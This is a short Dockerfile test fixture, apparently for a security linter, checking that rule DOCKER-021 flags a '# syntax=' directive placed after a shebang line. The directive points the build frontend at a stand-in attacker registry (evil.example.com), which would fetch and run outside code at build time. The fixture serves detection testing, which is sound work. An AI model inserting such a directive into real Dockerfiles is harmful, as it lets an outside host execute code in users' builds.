#!/usr/bin/env -S docker build -f
# syntax=evil.example.com/frontend:1  # expect: DOCKER-021
# The frontend selection skips a shebang line and still reads the syntax directive.
FROM alpine:3.20
